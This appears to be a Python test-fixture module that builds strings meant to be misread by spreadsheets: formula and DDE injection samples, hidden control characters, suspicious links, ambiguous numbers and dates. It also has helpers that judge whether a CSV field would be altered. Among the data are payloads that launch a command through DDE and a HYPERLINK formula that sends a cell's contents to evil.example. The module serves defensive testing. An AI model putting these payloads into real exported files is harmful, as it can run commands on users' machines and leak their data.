"""Texts that people or other systems may send, chosen to be taken for something else by a spreadsheet."""

import random
import re

MOST_UNITS = 32767
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")', "=IMPORTXML(A1,B1)", "{=1+1}",
    '=DDE("cmd";"/C calc";"x")', "=WEBSERVICE(A1)", "＝1+1", "＋1", "－1+1", "＠SUM(1)", "=", "+", "-",
    "@", "'", "''=1",
]  # fmt: skip
HIDDEN = [
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n@SUM(1)", " =1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1",
    "\u202e=1+1", "\x00=1+1", "\x1b=1+1", "\x7f=1", "\x85=1", "\u2028=1+1", "\x0b-1", "a\x00b", "a\x1fb\x08",
    "a\nb\tc\rd", "\ud800", "\udfff=1", "\ufffe=1", "\uffff",
]  # fmt: skip
LINKS = [
    "http://evil.example", "https://evil.example/?a=1", "ftp://evil.example", "mailto:a@evil.example",
    "internal:Sheet1!A1", "external:c:\\temp\\x.xlsx", "file:///etc/passwd", "www.evil.example", "javascript:alert(1)",
]  # fmt: skip
NUMBERS = [
    "007", "0001", "1E5", "1e-3", "12345678901234567890", "1234567890123456", "1.10", ".5", "1,000", "50%", "$5", "¥5",
    "(5)", "0x1F", "１２３", "+86 755 1234", "-0", "140303", "0", "999999999999999",
]  # fmt: skip
DATES = [
    "2024-05-01", "1/2", "3-4", "5月1日", "12:30", "MAR1", "SEPT2", "Dec-25", "may 5", "1-Jan", "2024年5月", "TRUE",
    "false", "20:00:00",
]  # fmt: skip
QUOTES = ['"', '""', 'a"b', '",=1+1,"', "a,b", "a;b", ";=1+1", "|calc", "%0A=1", "<b>&amp;</b>", "]]>", "_x0041_"]
LONG = ["长" * 40_000, "=" + "a" * 40_000, "😀" * 20_000, "x" * MOST_UNITS, "\n" * 33_000]
STARTS = ["", " ", "\t", "\r", "\n", "\u200b", "'", '"', ";", ",", "\u3000"]


def hostile_texts(seed: int) -> list[str]:
    """All of the above and some made of their parts, each another text."""
    chance = random.Random(seed)
    known = [*FORMULAS, *HIDDEN, *LINKS, *NUMBERS, *DATES, *QUOTES]
    made = {chance.choice(STARTS) + chance.choice(known) + chance.choice(known) for _ in range(60)}
    return [*known, *LONG, *sorted(made - set(known))]


def as_shown(text: str) -> str:
    """The text as a file has to show it: a sign for each character that cannot be printed."""
    return "".join(_sign(one) for one in text)


def _sign(one: str) -> str:
    code = ord(one)
    if code < 0x20:
        return chr(0x2400 + code)
    if code == 0x7F:
        return "␡"
    is_unprintable = (
        0x80 <= code < 0xA0 or code in (0x2028, 0x2029) or 0xD800 <= code < 0xE000 or code & 0xFFFE == 0xFFFE
    )
    return "\ufffd" if is_unprintable else one


def is_same(found: object, text: str) -> bool:
    """Whether a cell holds the text; what is longer than a cell ends in … and begins alike."""
    shown = as_shown(text)
    if units(shown) <= MOST_UNITS:
        return found == shown
    return isinstance(found, str) and units(found) <= MOST_UNITS and found[-1] == "…" and shown.startswith(found[:-2])


def units(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


_DATE = re.compile(
    r"\W*\d{1,4}\s*[-/.:年月]\s*\d|\d+月|(jan|feb|mar|apr|may|jun|jul|aug|sep|oct|nov|dec)\w*\W*\d", re.I
)


def is_taken_amiss(field: str) -> bool:
    """Whether a spreadsheet that opens a CSV file would make something else than this text of a field."""
    if field.startswith("'"):
        return False
    bare = field.strip(" \t\r\n\x00\x0b\x0c\u00a0\u3000\u200b\ufeff\u202e")
    if bare[:1] in tuple("=+-@＝＋－＠") or bare.lower() in ("true", "false") or _DATE.match(bare):
        return True
    try:
        float(bare.strip("$¥%()").replace(",", ""))
    except ValueError:
        return bare != field
    return str(int(bare)) != field or len(field) > 15 if bare.isascii() and bare.isdigit() else True
